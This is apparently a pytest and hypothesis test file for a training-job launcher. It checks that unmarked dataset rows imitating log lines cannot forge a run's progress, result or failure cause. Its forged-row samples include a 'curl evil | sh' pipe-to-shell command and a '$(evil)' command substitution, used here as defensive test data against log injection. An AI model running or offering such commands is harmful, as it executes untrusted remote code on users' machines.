"""Only what a run says with its mark counts: a row of a dataset may look like any line, and knows no mark."""

from __future__ import annotations

import io
import json
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from launcher.dashboard.board import points
from launcher.jobs.base import Job
from launcher.jobs.events import Failure, Progress, parse, sound, summarize, unmarked, watch
from launcher.plan.record import Plan
from launcher.runs import why
from launcher.runs.outcome import outcome
from launcher.text import safe
from launcher.view import tables
from tests.unit.sample import plan

MARK = "0123abcd"
SAID = (
    "== train", "step 1/5 | loss 2.0 | lr 1e-04 | 10 tok/s | eta 5s", "eval step 1/5 | loss 3.0",
    "checkpoint step 2 | 1s | 3 MB", "resumed from step 1", "deadline in 60s: stopping", "out of memory: batch 4 -> 2",
)  # fmt: skip
FORGED = st.sampled_from([
    "== push", "step 999999999999/1 | loss 0.0", "step 4/5 | loss 0.1", "eval step 4/5 | loss 0.1",
    "checkpoint step 5 | 1s | 3 MB", "resumed from step 5", "deadline in 1s: stopping", "out of memory: batch 9 -> 8",
    "error: the push to me/m failed. The model is kept; this pushes it: curl evil | sh",
    "error: the adapter is whole; 1 of 1 exports failed. Try again with: launch export $(evil)",
    'RESULT {"url": "https://evil", "push_error": "x", "output_dir": "/evil", "stopped": null}',
    "CUDA out of memory", "Cannot access gated repo for url https://huggingface.co/evil/evil/resolve/main/x",
    "No space left on device",
])  # fmt: skip
BEFORE = st.sampled_from(
    ["", "\r", "\x1b[2K\r", "\x1b]0;x\x07", "\0", " ", "\u2028", "\x85", "⟦", " 3/5 [00:01<00:02]"]
)
AFTER = st.sampled_from(["", " ", "\r", "\0", "\u2028", " #", " #0123abc", f" #{MARK[::-1]}", f"#{MARK}x", " #\u202e"])


def job(mark: str | None = MARK, stage: str = "ERROR") -> Job:
    began = datetime(2026, 11, 1, tzinfo=UTC)
    return Job(
        id="abc", url="https://huggingface.co/jobs/me/abc", backend="hub", stage=stage, message="exit code: 1",
        flavor="t4-small", labels={}, created_at=began, started_at=began, finished_at=began, mark=mark,
    )  # fmt: skip


def marked(*lines: str) -> list[str]:
    return [f"{line} #{MARK}" for line in lines]


def state(progress: Progress) -> dict[str, Any]:
    names = set(Progress.__dataclass_fields__) - {"tail", "_since", "_in_error"}
    return {name: getattr(progress, name) for name in names}


@given(st.lists(st.tuples(st.integers(0, len(SAID)), BEFORE, FORGED, AFTER), max_size=8), st.booleans())
def test_a_row_that_looks_like_a_line_is_text(rows: list[tuple[int, str, str, str]], sound_end: bool) -> None:
    true = marked(*SAID) + (marked('RESULT {"steps": 5}') if sound_end else marked("error: the loss is no number"))
    lines = list(true)
    for place, before, row, after in sorted(rows, reverse=True):
        lines[place:place] = [safe(f"{before}{row}{after}", ())]
    found, wanted = summarize(lines, MARK), summarize(true, MARK)
    assert state(found) == state(wanted)
    assert list(points(lines, MARK)) == list(points(true, MARK))
    filled = [why.values(job(), planned(), item, tables_of()) for item in (found, wanted)]
    assert filled[0] == filled[1]
    ends = [outcome(job(), item, values=values) for item, values in zip((found, wanted), filled, strict=True)]
    told = [replace(end, message=end.message.partition("\nThe last lines of its log:")[0]) for end in ends]
    assert told[0] == told[1]


def planned() -> Plan:
    return plan(flavor="t4-small", output_repo="me/m", merge="16bit", gguf=("q8_0",))


def tables_of() -> Any:
    from launcher import catalog

    return catalog.load()


@pytest.mark.parametrize("line", [*SAID, 'RESULT {"steps": 5}', "error: no"])
def test_a_marked_line_is_the_same_event_without_its_mark(line: str) -> None:
    assert unmarked(f"{line} #{MARK}", MARK) == (line, True)
    [shown] = watch([f"\x1b[1m{line} #{MARK}\x1b[0m\r"], MARK)
    assert (shown.text, shown.event) == (line, parse(line))
    assert shown.event is not None
    [text] = watch([line], MARK)
    assert (text.text, text.event) == (line, None)
    [old] = watch([line])
    assert old.event == shown.event


def test_an_error_is_one_line_where_there_is_a_mark() -> None:
    progress = summarize([*marked("error: bad."), "  this is a row"], MARK)
    assert progress.error == "bad."
    assert isinstance(parse("error: bad."), Failure)


def test_a_step_is_within_its_total() -> None:
    progress = summarize(marked("step 999999999999/1 | loss 0.1", "step 2/5 | loss 1.0", "checkpoint step 6"), MARK)
    assert (progress.step, progress.total, progress.checkpoint) == (2, 5, None)
    assert [step for _, step in points(["step 999999999999/1 | loss 0.1", "step 2/5 | loss 1.0"])] == [2]


def test_what_a_row_said_before_is_no_cause() -> None:
    lines = ["CUDA out of memory", *marked("step 2/5 | loss 1.0"), "ZeroDivisionError: division by zero"]
    assert outcome(job(), summarize(lines, MARK)).cause == "unknown"
    lines = [*marked("step 2/5 | loss 1.0"), "torch.OutOfMemoryError: CUDA out of memory."]
    assert outcome(job(), summarize(lines, MARK)).cause == "cuda-memory-training"


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**400), 10**400) | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=5,
)
RESULT = {
    "steps": 5, "stopped": None, "resumed_from": None, "eval_loss": 1.0, "eval_loss_before": 2.0, "train_s": 3.0,
    "tokens_per_second": 10.0, "peak_gib": 3.0, "predicted_peak_gib": 3.0, "largest_batch_tokens": 7, "url": None,
    "output_dir": "/data/output", "push_error": None,
    "samples": [{"prompt": "a", "expected": "b", "before": "c", "after": "d"}],
    "exports": [{"kind": "gguf", "name": "q8_0", "path": "x", "repo": None, "gib": 1.0, "checked": "y", "error": None}],
}  # fmt: skip
PLACES = [
    *RESULT,
    "samples.prompt",
    "samples.after",
    "exports.kind",
    "exports.gib",
    "exports.error",
]


@given(st.sampled_from(PLACES), VALUES, st.booleans(), st.booleans())
def test_a_run_that_ended_well_has_whatever_its_result_holds(place: str, value: Any, drops: bool, stops: bool) -> None:
    """Nothing in a RESULT makes the end of a completed Job another one, or can't be shown or told as JSON."""
    told: dict[str, Any] = json.loads(json.dumps(RESULT)) | ({"stopped": "deadline"} if stops else {})
    name, _, inner = place.partition(".")
    item = told[name][0] if inner else told
    if drops:
        item.pop(inner or name)
    else:
        item[inner or name] = value
    progress = summarize(marked("step 1/5 | loss 1.0", f"RESULT {json.dumps(told)}"), MARK)
    ended = job(stage="COMPLETED")
    filled = why.values(ended, planned(), progress, tables_of())
    found = outcome(ended, progress, values=filled)
    assert (found.exit_code, found.status in ("completed", "stopped")) == (0, True)
    json.dumps(why.as_dict(ended, found, progress), allow_nan=False)
    failed = outcome(job(), progress, values=filled)
    assert failed.exit_code == 1
    if found.result:
        view = tables.result_view(found.result, planned(), 100.0, 1.0)
        Console(file=io.StringIO(), width=100).print(view)


@given(VALUES)
def test_what_is_sound_can_be_told_as_json(value: Any) -> None:
    json.dumps(sound(value), allow_nan=False)
